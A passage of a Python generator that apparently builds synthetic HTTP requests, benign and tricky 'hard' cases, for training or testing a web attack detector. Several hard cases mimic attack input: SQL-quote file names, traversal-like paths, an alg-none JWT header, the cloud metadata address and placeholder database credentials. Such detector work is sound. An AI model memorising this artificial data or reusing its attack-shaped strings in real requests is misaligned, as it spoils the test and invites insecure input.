    host = pick(HOSTS["shop"] + HOSTS["cms"] + HOSTS["travel"])
    r = R.random()
    if r < 0.55:
        return BI(
            t,
            "query",
            host=host,
            path=pick(["/search", "/api/v1/search", "/catalog/search", "/s"]),
            param=pick(["q", "query", "term", "keyword"]),
            extra_q=R.sample(
                [
                    ("page", str(R.randrange(1, 6))),
                    ("sort", pick(["relevance", "price_asc", "newest"])),
                    ("lang", pick(["en", "de", "fr", "ja"])),
                    ("in_stock", "1"),
                ],
                R.randrange(0, 3),
            ),
            enc=pick(["std", "plus"]),
        )
    if r < 0.72:
        return BI(
            t,
            "path",
            host=host,
            path=pick(["/search/{}", "/tag/{}", "/s/{}/results", "/c/{}"]),
            extra_q=[("page", str(R.randrange(1, 4)))] if R.random() < 0.3 else [],
        )
    if r < 0.88:
        return BI(
            t,
            "json",
            host=host,
            path="/api/v2/search",
            json={
                "query": P,
                "filters": {
                    "category": pick(["all", "outdoor", "kitchen"]),
                    "price": {"min": 0, "max": R.randrange(20, 500)},
                },
                "page": 1,
                "size": 24,
            },
        )
    return BI(t, "form", host=host, path="/search", form=[("q", P), ("scope", pick(["products", "help", "all"]))])


def search_hard():
    L = [
        "O'Connor",
        "D'Angelo's pizza menu",
        "select comfort mattress",
        "union jack flag",
        "drop earrings gold",
        "table & chairs set",
        "rock 'n' roll t-shirt",
        "5' 10\" mirror",
        "c# or java course",
        "sql injection prevention cheat sheet",
        "what is xss",
        "<3 mug",
        "AT&T charger",
        "--force flag git push",
        "100% cotton sheets",
        "where is my order?",
        "script tag not working in wordpress",
        "alert() vs console.log",
        '"exact phrase" -exclude',
        "price:<50 brand:acme",
        '1/2" copper pipe',
        "Ma'am Kitchen knives",
        "L'Oréal shampoo",
        "how to use ../ relative paths",
        "delete account",
        "or 2 pack",
        "c:\\program files missing dll",
        "john.o'neil@example.com order",
        "ls -la meaning",
        "&& vs || bash",
        "${variable} syntax",
        "{{ }} braces in template not rendering",
    ]
    out = []
    for i, t in enumerate(L):
        host = pick(HOSTS["shop"] + HOSTS["dev"] + HOSTS["cms"])
        if i % 4 == 3:
            out.append(BI(t, "json", True, host=host, path="/api/v1/search", json={"q": P, "limit": 20}))
        else:
            out.append(
                BI(
                    t,
                    "query",
                    True,
                    host=host,
                    path=pick(["/search", "/help/search", "/api/v1/search"]),
                    param="q",
                    extra_q=[("page", "1")] if R.random() < 0.5 else [],
                    enc=pick(["std", "plus"]),
                )
            )
    return out


# ---------------------------------------------------------------- graphql

GQL_OPS = [
    (
        "GetProduct",
        "query GetProduct($id: ID!) {\n  product(id: $id) {\n    id\n    title\n    price { amount currencyCode }\n    images(first: %d) { edges { node { url altText } } }\n  }\n}",
        lambda: {"id": "gid://shop/Product/%d" % R.randrange(10**6, 10**7)},
    ),
    (
        "ListOrders",
        "query ListOrders($first: Int!, $after: String) {\n  viewer {\n    orders(first: $first, after: $after) {\n      pageInfo { hasNextPage endCursor }\n      nodes { id number total status createdAt }\n    }\n  }\n} # v%d",
        lambda: {"first": pick([10, 20, 50]), "after": b64("cursor:%d" % R.randrange(1000))},
    ),
    (
        "AddToCart",
        "mutation AddToCart($input: CartLinesAddInput!) {\n  cartLinesAdd(input: $input) {\n    cart { id totalQuantity }\n    userErrors { field message }\n  }\n} # %d",
        lambda: {
            "input": {
                "cartId": "gid://shop/Cart/%s" % rs(24),
                "lines": [
                    {
                        "merchandiseId": "gid://shop/ProductVariant/%d" % R.randrange(10**6, 10**7),
                        "quantity": R.randrange(1, 4),
                    }
                ],
            }
        },
    ),
    (
        "UpdateProfile",
        "mutation UpdateProfile($input: ProfileInput!) {\n  updateProfile(input: $input) { id displayName locale updatedAt }\n} # %d",
        lambda: {"input": {"displayName": " ".join(person()), "locale": pick(["de-DE", "en-GB", "ja-JP", "pt-BR"])}},
    ),
    (
        "Search",
        "query Search($q: String!, $n: Int = %d) {\n  search(query: $q, first: $n) {\n    ... on Article { id title slug }\n    ... on Author { id name }\n  }\n}",
        lambda: {"q": pick(SEARCH_TERMS)},
    ),
    (
        "Repo",
        "query Repo($owner: String!, $name: String!) {\n  repository(owner: $owner, name: $name) {\n    issues(states: OPEN, first: %d) { totalCount nodes { number title } }\n  }\n}",
        lambda: {"owner": pick(["acme", "hexwright", "quillbase"]), "name": pick(["web", "api", "docs"])},
    ),
    (
        "Dashboard",
        "query Dashboard($from: DateTime!, $to: DateTime!) {\n  metrics(from: $from, to: $to, granularity: DAY) {\n    date revenue orders conversionRate\n  }\n  alerts(limit: %d) { id level message }\n}",
        lambda: {
            "from": "2026-11-%02dT00:00:00Z" % R.randrange(1, 15),
            "to": "2026-11-%02dT23:59:59Z" % R.randrange(15, 30),
        },
    ),
    (
        "Transfer",
        "mutation Transfer($input: TransferInput!) {\n  createTransfer(input: $input) { id status reference } # %d\n}",
        lambda: {
            "input": {
                "fromAccount": "acc_%s" % rs(10),
                "toIban": "DE%d" % R.randrange(10**19, 10**20),
                "amount": "%d.%02d" % (R.randrange(5, 2000), R.randrange(100)),
                "currency": "EUR",
                "reference": pick(["Rent Dec", "Invoice 2026-118", "Geburtstag 🎂"]),
            }
        },
    ),
]


def gql_normal():
    name, q, varf = pick(GQL_OPS)
    q = q % R.randrange(1, 60) if "%d" in q else q
    v = varf()
    host = pick(HOSTS["shop"] + HOSTS["saas"] + HOSTS["bank"] + HOSTS["dev"])
    if R.random() < 0.8:
        return BI(
            q,
            "json",
            host=host,
            style=bstyle(0.4),
            path=pick(["/graphql", "/api/graphql", "/api/2024-10/graphql.json"]),
            json={"operationName": name, "query": P, "variables": v},
        )
    return BI(
        q,
        "query",
        host=host,
        path="/graphql",
        param="query",
        extra_q=[("operationName", name), ("variables", json.dumps(v, separators=(",", ":")))],
    )


def gql_hard():
    L = [
        (
            "IntrospectionQuery",
            "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { kind name fields(includeDeprecated: true) { name args { name type { name kind ofType { name kind } } } } }\n    directives { name locations }\n  }\n}",
            {},
        ),
        (
            "OrdersByEmail",
            "query OrdersByEmail($email: String!) {\n  orders(where: { email: { _ilike: $email } }, order_by: { created_at: desc }) { id total }\n}",
            {"email": "%@acme-corp.com"},
        ),
        (
            "FindAuthor",
            "query FindAuthor($name: String!) { authors(filter: { name: { eq: $name } }) { id name books { title } } }",
            {"name": "O'Reilly"},
        ),
        (
            "PublishPost",
            "mutation PublishPost($input: PostInput!) { upsertPost(input: $input) { id slug } }",
            {
                "input": {
                    "title": "Escaping <script> tags",
                    "bodyHtml": "<p>Use <code>&lt;script&gt;</code> only for trusted code.</p>",
                }
            },
        ),
        (
            "Conditional",
            "query Conditional($withPrices: Boolean!, $skipStock: Boolean = false) {\n  products(first: 5) {\n    id\n    price @include(if: $withPrices)\n    stock @skip(if: $skipStock)\n  }\n}",
            {"withPrices": True},
        ),
        (
            "Frag",
            'fragment UserFields on User { id name email avatar(size: 64) }\nquery Team { team(id: "t_42") { owner { ...UserFields } members { ...UserFields } } }',
            {},
        ),
        (
            "SavedQuery",
            'mutation SavedQuery($sql: String!) { saveReport(name: "Weekly", sql: $sql) { id } }',
            {"sql": "SELECT date_trunc('week', created_at) AS wk, count(*) FROM signups GROUP BY 1 ORDER BY 1"},
        ),
        (
            "Webhook",
            "mutation Webhook($url: URL!) { createWebhook(url: $url, events: [ORDER_PAID]) { id secret } }",
            {"url": "https://hooks.zapier.com/hooks/catch/123456/abcdef/"},
        ),
        (
            "Aliases",
            'query Aliases {\n  a: product(handle: "mug") { id }\n  b: product(handle: "tee") { id }\n  c: product(handle: "cap") { id }\n}',
            {},
        ),
        ("Typename", 'query { __typename node(id: "VXNlcjox") { __typename ... on User { login } } }', {}),
        ("DirSearch", "query DirSearch($q: String!) { people(search: $q) { dn cn mail } }", {"q": "smith*"}),
        (
            "Translate",
            'mutation Translate($s: String!) { translate(text: $s, to: "de") }',
            {"s": "Hello {{name}}, your order #{order} has shipped!"},
        ),
        (
            "Batch",
            "query Batch($ids: [ID!]!) { nodes(ids: $ids) { id ... on Order { status } } }",
            {"ids": ["T3JkZXI6MQ==", "T3JkZXI6Mg==", "T3JkZXI6Mw=="]},
        ),
        (
            "Subscribe",
            "subscription OnOrder($shop: ID!) { orderCreated(shopId: $shop) { id total } }",
            {"shop": "shp_%s" % rs(8)},
        ),
        ("Upload", "mutation Upload($file: Upload!) { uploadAvatar(file: $file) { url } }", {"file": None}),
        (
            "CommentMd",
            "mutation CommentMd($body: String!) { addComment(issue: 881, body: $body) { id } }",
            {"body": "Run `rm -rf dist && npm run build` and retry 🙏"},
        ),
        (
            "FilterOr",
            'query FilterOr { tickets(where: { _or: [{ priority: { _eq: HIGH } }, { tags: { _contains: ["vip"] } }] }) { id } }',
            {},
        ),
        ("Pathy", 'query Pathy { file(path: "../shared/logo.svg", repo: "design") { size sha } }', {}),
        ("Localhost", 'mutation Localhost { setDevCallback(url: "http://localhost:3000/oauth/callback") { ok } }', {}),
        (
            "LongArgs",
            'query LongArgs { search(q: "union station parking", first: 10, orderBy: { field: RELEVANCE, direction: DESC }) { totalCount } }',
            {},
        ),
        (
            "Deprecated",
            'query { __type(name: "Order") { fields(includeDeprecated: true) { name isDeprecated deprecationReason } } }',
            {},
        ),
        (
            "Shell",
            "mutation Shell { createRunbookStep(text: \"ssh deploy@web-1 'sudo systemctl restart app'\") { id } }",
            {},
        ),
        ("Accents", 'query Accents { cities(nameStartsWith: "São") { name country } }', {}),
        ("Emoji", 'mutation Emoji { react(messageId: "m_1", emoji: "🔥") { count } }', {}),
    ]
    out = []
    for name, q, v in L:
        host = pick(HOSTS["shop"] + HOSTS["saas"] + HOSTS["dev"])
        out.append(
            BI(
                q,
                "json",
                True,
                host=host,
                style=bstyle(0.4),
                path="/graphql",
                json={"operationName": name, "query": P, "variables": v},
            )
        )
    return out


# ---------------------------------------------------------------- files

FN_BASES = [
    "Q3 report (final) v2",
    "résumé – José Álvarez",
    "IMG_2026%02d%02d_%06d",
    "Screenshot 2026-11-%02d at %02d.%02d.%02d",
    "会议纪要_2026-11",
    "تقرير المبيعات",
    "invoice#%d",
    "data.backup.2026",
    "photo (%d)",
    "Präsentation Kunde",
    "contrat signé",
    "budget_FY27 DRAFT",
    "floor plan – 3rd floor",
    "Scan %d",
    "meeting-notes",
    "ΑΠΟΔΕΙΞΗ",
    "отчёт за ноябрь",
    "家族写真",
    "logo@2x",
    "Lebenslauf Müller",
    "passport copy",
    "week %d timesheet",
    "kitchen reno quote",
    "Tax Return 2025",
    "podcast ep. %d",
]
FN_EXTS = [
    ("pdf", "application/pdf"),
    ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("jpg", "image/jpeg"),
    ("png", "image/png"),
    ("HEIC", "image/heic"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("csv", "text/csv"),
    ("tar.gz", "application/gzip"),
    ("mp4", "video/mp4"),
    ("txt", "text/plain"),
    ("zip", "application/zip"),
    ("pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
]


def fname():
    b = pick(FN_BASES)
    n = b.count("%")
    if n:
        b = b % tuple(R.randrange(1, 60) for _ in range(n))
    e, ct = pick(FN_EXTS)
    return "%s.%s" % (b, e), ct


def files_normal():
    fn, ct = fname()
    r = R.random()
    host = pick(HOSTS["saas"] + HOSTS["hr"] + HOSTS["cms"])
    if r < 0.45:
        return BI(
            fn,
            "mp_filename",
            host=host,
            path=pick(["/api/v1/files", "/upload", "/api/v1/attachments", "/drive/upload"]),
            mp={
                "fields": [("folder_id", str(R.randrange(100, 9999))), ("overwrite", "false")],
                "file": ("file", None, ct, "%s-bytes-%s" % (ct.split("/")[0], rs(12))),
            },
        )
    if r < 0.65:
        folder = pick(
            [
                "/Shared/Design",
                "/Projects/2026/Q4",
                "/Team Docs/HR",
                "/Kunden/Angebote",
                "/写真/2026",
                "/Marketing/Campaigns/Winter",
            ]
        )
        p = folder + "/" + fn
        return BI(
            p,
            "json",
            host=host,
            path="/api/v1/files/move",
            json={"source": P, "destination": folder + "/Archive/", "conflict": "rename"},
        )
    seg = fn
    return BI(
        seg,
        "path",
        host=host,
        path=pick(
            [
                "/files/%d/{}" % R.randrange(1000, 99999),
                "/download/%s/{}" % rs(8),
                "/api/v1/attachments/%d/{}" % R.randrange(1, 9999),
            ]
        ),
    )


def files_hard():
    L = [
        ("C:\\Users\\ana\\Documents\\budget 2026.xlsx", "mp_filename"),
        ("../tsconfig.base.json", "json"),
        ("/etc/nginx/conf.d/app.conf", "json"),
        ("~/Downloads/statement_nov.pdf", "json"),
        ("report;final.pdf", "mp_filename"),
        ("O'Brien contract (signed).pdf", "mp_filename"),
        ("web.config", "mp_filename"),
        (".env.example", "json"),
        ("v1..v2 changes.txt", "mp_filename"),
        ("..hidden-draft.md", "mp_filename"),
        ("index.php.txt", "mp_filename"),
        ("cmd & conquer fan art.png", "mp_filename"),
        ("backup.sql.gz", "mp_filename"),
        ("/var/log/app/error.log", "json"),
        ("shell-scripts.zip", "mp_filename"),
        ("C:/Program Files/Quillbase/config.ini", "json"),
        ("passwd-reset-flow.png", "mp_filename"),
        ("%E2%82%AC-prices.csv", "mp_filename"),
        ("../../shared/styles/theme.scss", "json"),
        ("etc/hosts-notes.txt", "path"),
        ("$RECYCLE.BIN notes.txt", "mp_filename"),
        ("Robert'); drop-in replacement.docx", "mp_filename"),
        ("..\\assets\\logo.svg", "json"),
        ("<draft> plan.txt", "mp_filename"),
        ("file:///Users/kim/Desktop/plan.pdf", "json"),
    ]
    out = []
    for p, at in L:
        host = pick(HOSTS["saas"] + HOSTS["dev"])
        if at == "mp_filename":
            out.append(
                BI(
                    p,
                    at,
                    True,
                    host=host,
                    path="/api/v1/files",
                    mp={
                        "fields": [("folder_id", str(R.randrange(100, 999)))],
                        "file": ("file", None, "application/octet-stream", "bytes-" + rs(16)),
                    },
                )
            )
        elif at == "json":
            out.append(
                BI(
                    p,
                    at,
                    True,
                    host=host,
                    path=pick(
                        [
                            "/api/v1/workspace/settings",
                            "/api/v1/files/link",
                            "/api/v1/projects/%d/config" % R.randrange(1, 99),
                        ]
                    ),
                    json={"key": pick(["extends", "path", "config_path", "source"]), "value": P},
                )
            )
        else:
            out.append(BI(p, at, True, host=host, path="/api/v1/docs/{}"))
    return out


# ---------------------------------------------------------------- urls

PUBLIC_URLS = [
    "https://hooks.slack.com/services/T0%s/B0%s/%s",
    "https://api.partner-logistics.com/webhooks/orders/%s",
    "https://example-store.myshopify.com/products/%s",
    "https://www.youtube.com/watch?v=%s",
    "https://github.com/acme/%s/pull/%d",
    "https://calendar.google.com/calendar/event?eid=%s",
    "https://zoom.us/j/%d?pwd=%s",
    "https://forms.office.com/r/%s",
    "https://www.linkedin.com/in/%s-%s/",
    "https://open.spotify.com/playlist/%s",
    "https://feeds.brightpage.news/rss/%s.xml",
]


def url_normal():
    t = pick(PUBLIC_URLS)
    args = []
    for m in re.findall(r"%[sd]", t):
        args.append(
            rs(R.randrange(8, 22), string.ascii_letters + string.digits) if m == "%s" else R.randrange(1000, 99999999)
        )
    u = t % tuple(args)
    host = pick(HOSTS["saas"] + HOSTS["shop"] + HOSTS["dev"])
    r = R.random()
    if r < 0.4:
        return BI(
            u,
            "json",
            host=host,
            path="/api/v1/webhooks",
            json={
                "url": P,
                "events": R.sample(["order.created", "order.paid", "refund.issued", "customer.updated"], 2),
                "active": True,
            },
        )
    if r < 0.6:
        nxt = "/%s?%s" % (
            pick(["account/orders", "dashboard", "cart", "settings/billing", "projects/%d/board" % R.randrange(1, 99)]),
            pick(["page=2", "tab=invoices", "view=kanban&filter=mine", "ref=nav"]),
        )
        return BI(
            nxt,
            "query",
            host=host,
            path=pick(["/login", "/auth/sso", "/session/new"]),
            param=pick(["next", "return_to", "redirect"]),
        )
    if r < 0.72:
        return BI(
            u,
            "form",
            host=host,
            path="/profile/links",
            form=[("label", pick(["Portfolio", "Website", "Calendar", "Podcast"])), ("url", P)],
        )
    if r < 0.86:
        site = pick(HOSTS["shop"] + HOSTS["cms"])
        locs = [
            "https://%s/%s/%s"
            % (
                site,
                pick(["products", "blog", "collections", "help"]),
                rs(R.randrange(5, 12), string.ascii_lowercase + "-"),
            )
            for _ in range(R.randrange(2, 5))
        ]
        doc = (
            '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n%s</urlset>\n'
            % "".join(
                "  <url><loc>%s</loc><lastmod>2026-%02d-%02d</lastmod><changefreq>%s</changefreq></url>\n"
                % (l, R.randrange(1, 13), R.randrange(1, 29), pick(["daily", "weekly", "monthly"]))
                for l in locs
            )
        )
        return BI(
            doc,
            "xml_doc",
            host=site,
            style=bstyle(0.6),
            method="PUT",
            path="/api/v1/seo/sitemap",
            ctype="application/xml",
        )
    return BI(u, "query", host=host, path="/api/v1/unfurl", param="url", style=bstyle(0.5))


def presigned():
    key = "uploads/%s/%s.%s" % (ruuid(), rs(8), pick(["jpg", "pdf", "csv"]))
    q = (
        "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%s%%2F20261207%%2Feu-west-1%%2Fs3%%2Faws4_request&X-Amz-Date=20261207T%02d%02d00Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=%s"
        % (rs(16, string.ascii_uppercase + string.digits), R.randrange(24), R.randrange(60), rhex(64))
    )
    return "https://%s.s3.eu-west-1.amazonaws.com/%s?%s" % (
        pick(["quillbase-uploads", "orbitally-exports", "brightpage-media"]),
        key,
        q,
    )


def url_hard():
    L = [
        ("http://localhost:3000/auth/callback", "json"),
        ("http://127.0.0.1:5500/index.html", "json"),
        ("https://medium.com/@kim.park/how-we-cut-our-aws-bill-4f2a9c", "form"),
        ("https://app.orbitally.app/#/dashboard?tab=1&range=30d", "query"),
        ("https://t.mailer-cdn.com/click?u=https%3A%2F%2Fshop.larkspur-goods.com%2Fsale&m=8812", "json"),
        (presigned(), "json"),
        (presigned(), "query"),
        ("http://localhost:8080/api/v1/health", "json"),
        ("https://docs.hexwright.io/api#/paths/~1users~1{id}/get", "form"),
        ("https://www.google.com/search?q=%22union+select%22+meaning", "json"),
        ("http://10.0.4.21:9090/graph (internal grafana, VPN only)", "json"),
        ("https://archive.org/wait/https://www.fernhollow.org/", "form"),
        ("/account/orders?status=shipped&sort=-date#order-4471", "query"),
        ("https://shop.larkspur-goods.com/cart?items[0][id]=991&items[0][qty]=2", "json"),
        ("https://cdn.jsdelivr.net/npm/chart.js@4.4.1/dist/chart.umd.min.js", "json"),
        ("ftp://ftp.gnu.org/gnu/bash/", "form"),
        ("https://hooks.example-partner.com/ingest?token=abc123&redirect=https://partner.example/ok", "json"),
        ("http://[2001:db8::1]:8443/status", "json"),
        ("https://user-images.gitforge.dev/1/../2/img.png", "form"),
        ("https://maps.app.goo.gl/%s" % rs(17, string.ascii_letters + string.digits), "query"),
        (
            "https://console.tidewire.dev/oauth/authorize?client_id=web&redirect_uri=https%3A%2F%2Fconsole.tidewire.dev%2Fcb&scope=openid%20profile&state="
            + rs(16),
            "query",
        ),
        (
            "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code&redirect_uri=https%%3A%%2F%%2Fapp.quillbase.io%%2Fsso"
            % ruuid(),
            "json",
        ),
        ("https://www.example.com/path;jsessionid=%s?x=1" % rhex(32).upper(), "form"),
        ("http://169.254.169.254 is blocked by our egress proxy, right?", "json"),
        ("javascript-weekly.com/issues/712", "form"),
    ]
    out = []
    for u, at in L:
        host = pick(HOSTS["saas"] + HOSTS["dev"])
        if at == "json" and " " in u:
            out.append(
                BI(
                    u,
                    at,
                    True,
                    host=host,
                    path="/api/v1/tickets",
                    json={
                        "subject": pick(["Question about network setup", "Dashboard link", "Access issue"]),
                        "body": P,
                        "priority": "normal",
                    },
                )
            )
        elif at == "json" and ("localhost" in u or "127.0.0.1" in u):
            out.append(
                BI(
                    u,
                    at,
                    True,
                    host=host,
                    method="PATCH",
                    path="/api/v1/oauth/apps/%d" % R.randrange(1, 400),
                    json={
                        "name": "Local development",
                        "redirect_uris": ["https://app.quillbase.io/oauth/callback", P],
                        "environment": "development",
                    },
                )
            )
        elif at == "json":
            out.append(
                BI(
                    u,
                    at,
                    True,
                    host=host,
                    path=pick(
                        [
                            "/api/v1/apps/%d/settings" % R.randrange(1, 99),
                            "/api/v1/bookmarks",
                            "/api/v1/integrations/%d" % R.randrange(1, 99),
                        ]
                    ),
                    json={"field": pick(["redirect_uri", "dev_url", "link", "homepage"]), "value": P},
                )
            )
        elif at == "form":
            out.append(
                BI(
                    u,
                    at,
                    True,
                    host=host,
                    path="/bookmarks/new",
                    form=[("title", pick(WORDS).title()), ("url", P), ("tags", "reading")],
                )
            )
        else:
            out.append(
                BI(u, at, True, host=host, path=pick(["/login", "/go", "/share"]), param=pick(["next", "url", "u"]))
            )
    return out


# ---------------------------------------------------------------- base64 / JWT

PNG_HDR = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPG_HDR = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01"
PDF_HDR = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"


def b64_normal():
    k = R.randrange(7)
    host = pick(ALL_HOSTS)
    if k == 0:
        d = "data:image/png;base64," + b64(PNG_HDR + rbytes(R.randrange(60, 240)))
        return BI(d, "json", host=host, method="PUT", path="/api/v1/users/me/avatar", json={"avatar": P})
    if k == 1:
        d = b64(PDF_HDR + rbytes(R.randrange(80, 300)))
        return BI(
            d,
            "json",
            host=host,
            style=bstyle(0.6),
            path="/api/v1/documents",
            json={
                "filename": "invoice-%d.pdf" % R.randrange(1000, 9999),
                "content_type": "application/pdf",
                "content_base64": P,
            },
        )
    if k == 2:
        inner = {
            "event": pick(["order.paid", "user.signup", "invoice.sent"]),
            "id": ruuid(),
            "ts": 1733500000 + R.randrange(10**6),
        }
        d = b64(json.dumps(inner))
        return BI(
            d,
            "json",
            host=host,
            style="api",
            path="/pubsub/push",
            json={
                "message": {
                    "data": P,
                    "messageId": str(R.randrange(10**15, 10**16)),
                    "publishTime": "2026-12-07T10:%02d:%02d.123Z" % (R.randrange(60), R.randrange(60)),
                },
                "subscription": "projects/acme/subscriptions/orders",
            },
        )
    if k == 3:
        d = b64(rbytes(R.randrange(20, 120)), urlsafe=R.random() < 0.5, pad=R.random() < 0.5)
        return BI(d, "json", host=host, style="api", path="/api/v1/sync", json={"cursor": P, "device_id": ruuid()})
    if k == 4:
        tok = fake_jwt()
        return BI(
            "Bearer " + tok,
            "header",
            host=host,
            style="api",
            path=pick(["/api/v1/me", "/api/v1/orders", "/api/v2/accounts"]),
            hdr="Authorization",
        )
    if k == 5:
        tok = fake_jwt(
            {
                "iss": "https://accounts.quillbase.io",
                "aud": "web",
                "sub": str(R.randrange(10**8, 10**9)),
                "email": email_of(*person()),
                "nonce": rs(16),
                "exp": 1733600000 + R.randrange(10**5),
            }
        )
        return BI(tok, "form", host=host, path="/auth/callback", form=[("id_token", P), ("state", rs(24))])
    d = "data:image/jpeg;base64," + b64(JPG_HDR + rbytes(R.randrange(60, 200)))
    return BI(
        d,
        "mp_field",
        host=host,
        path="/api/v1/receipts",
        mp={"fields": [("amount", "%d.%02d" % (R.randrange(1, 300), R.randrange(100)))], "field": "image"},
    )


def b64_hard():
    saml_req = b64(
        zlib.compress(
            (
                '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2026-12-07T09:00:00Z" AssertionConsumerServiceURL="https://app.quillbase.io/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.quillbase.io</saml:Issuer></samlp:AuthnRequest>'
                % rhex(32)
            ).encode()
        )[2:-4]
    )
    saml_resp = b64(
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2026-12-07T09:00:02Z" Destination="https://app.quillbase.io/saml/acs"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>'
        % rhex(32)
    )
    svg = "data:image/svg+xml;base64," + b64(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>'
    )
    L = [
        BI(saml_req, "query", True, path="/idp/sso", param="SAMLRequest", extra_q=[("RelayState", "/dashboard")]),
        BI(
            saml_resp,
            "form",
            True,
            path="/saml/acs",
            form=[("SAMLResponse", P), ("RelayState", "https://app.quillbase.io/projects")],
        ),
        BI(svg, "json", True, path="/api/v1/icons", json={"name": "logo", "src": P}),
        BI(
            "Bearer " + fake_jwt({"sub": "admin", "roles": ["admin", "billing"], "iat": 1733500000}),
            "header",
            True,
            style="api",
            path="/api/v1/admin/users",
            hdr="Authorization",
        ),
        BI(
            fake_jwt({"alg_hint": "none", "sub": "42"}, alg="HS256"),
            "cookie",
            True,
            path="/dashboard",
            cookie="access_token",
        ),
        BI(
            b64("#!/bin/sh\nexec /app/server --port 8080\n"),
            "json",
            True,
            path="/api/v1/k8s/secrets",
            json={"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "entrypoint"}, "data": {"run.sh": P}},
        ),
        BI(
            b64("DATABASE_URL=postgres://app:s3cr3t@db:5432/app\nREDIS_URL=redis://cache:6379/0\n"),
            "json",
            True,
            path="/api/v1/k8s/secrets",
            json={"kind": "Secret", "data": {".env": P}},
        ),
        BI(
            b64(json.dumps({"filter": {"status": {"$in": ["paid", "shipped"]}}, "page": 3})),
            "query",
            True,
            path="/api/v1/orders",
            param="cursor",
        ),
        BI(
            "Basic " + b64("api-user:p@ss'w0rd\"!;"),
            "header",
            True,
            style="api",
            path="/api/v1/export",
            hdr="Authorization",
        ),
        BI(
            b64(b"\x0a\x05hello\x12\x0bworld peace\x18\x96\x01\x22\x04\x08\x01\x10\x02"),
            "json",
            True,
            style="api",
            path="/grpc-web/acme.v1.Greeter/SayHello",
            json={"payload": P},
        ),
        BI(b64(PNG_HDR + rbytes(40), urlsafe=True, pad=False), "query", True, path="/img/proxy", param="d"),
        BI(
            b64("<script>console.log('hi')</script>"),
            "json",
            True,
            path="/api/v1/snippets",
            json={"encoding": "base64", "content": P, "language": "html"},
        ),
        BI(
            b64("SELECT * FROM invoices WHERE due < now()"),
            "json",
            True,
            path="/api/v1/reports/saved",
            json={"name": "overdue", "query_b64": P},
        ),
        BI(
            fake_jwt(
                {
                    "sub": "user_%s" % rs(8),
                    "name": "Seán O'Connor",
                    "email": "sean.oconnor@example.org",
                    "https://quillbase.io/claims/org": "Ó Súilleabháin & Co",
                }
            ),
            "json",
            True,
            path="/api/v1/session/exchange",
            json={"id_token": P},
        ),
        BI(
            "eyJhbGciOiJub25lIn0",
            "json",
            True,
            path="/api/v1/debug/jwt-header",
            json={"header_segment": P, "note": "test vector from our docs"},
        ),
        BI(
            "data:application/pdf;base64," + b64(PDF_HDR + rbytes(50)),
            "json",
            True,
            path="/api/v1/contracts",
            json={"file": P, "signed": True},
        ),
        BI(b64("order:4471:v2|page=3"), "query", True, path="/api/v1/orders", param="page_token"),
        BI(
            b64(bytes(range(256))),
            "json",
            True,
            style="api",
            path="/api/v1/blobs",
            json={"sha256": hashlib.sha256(bytes(range(256))).hexdigest(), "bytes": P},
        ),
        BI(
            "Negotiate " + b64(b"NTLMSSP\x00\x01\x00\x00\x00" + rbytes(28)),
            "header",
            True,
            path="/intranet/",
            hdr="Authorization",
        ),
        BI(
            b64(json.dumps({"user": "ana", "return_to": "/account?tab=security"}), urlsafe=True, pad=False),
            "cookie",
            True,
            path="/account",
            cookie="flash",
        ),
        BI(
            "sha256-" + b64(rbytes(32)),
            "json",
            True,
            path="/api/v1/assets/integrity",
            json={"file": "app.js", "integrity": P},
        ),
        BI(b64("{{user.name}} liked your post"), "json", True, path="/api/v1/push", json={"template_b64": P}),
        BI(
            b64(rbytes(64)).replace("+", "-"),
            "form",
            True,
            path="/webauthn/finish",
            form=[
                (
                    "clientDataJSON",
                    b64(
                        '{"type":"webauthn.get","challenge":"%s","origin":"https://online.northwind-credit.com"}'
                        % rs(43)
                    ),
                ),
                ("signature", P),
            ],
        ),
        BI(
            "AWS4-HMAC-SHA256 Credential=AKIA%s/20261207/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=%s"
            % (rs(16, string.ascii_uppercase + string.digits), rhex(64)),
            "header",
            True,
            style="api",
            path="/bucket/key.txt",
            hdr="Authorization",
        ),
    ]
    for b in L:
        b.host = pick(ALL_HOSTS)
    return L


# ---------------------------------------------------------------- api json


def ts():
    return "2026-%02d-%02dT%02d:%02d:%02d%s" % (
        R.randrange(1, 13),
        R.randrange(1, 29),
        R.randrange(24),
        R.randrange(60),
        R.randrange(60),
        pick(["Z", ".%03dZ" % R.randrange(1000), "+01:00", "-05:00"]),
    )


def address():
    f, l = person()
    c, z, cc = pick(CITIES)
    return {
        "name": "%s %s" % (f, l),
        "line1": "%d %s" % (R.randrange(1, 300), pick(STREETS)),
        "line2": pick(["", "Apt %d" % R.randrange(1, 90), "c/o %s" % pick(COMPANIES), "3rd floor"]),
        "city": c,
        "postal_code": z,
        "country": cc,
        "phone": "+%d %d %d" % (R.randrange(1, 99), R.randrange(100, 999), R.randrange(100000, 9999999)),
    }


QKEYS = [
    "filter[status]",
    "filter[created_at][gte]",
    "page[size]",
    "page[number]",
    "fields[orders]",
    "fields[customers]",
    "include",
    "sort",
    "filters[category][slug][$eq]",
    "filters[price][$lte]",
    "populate[author][fields][0]",
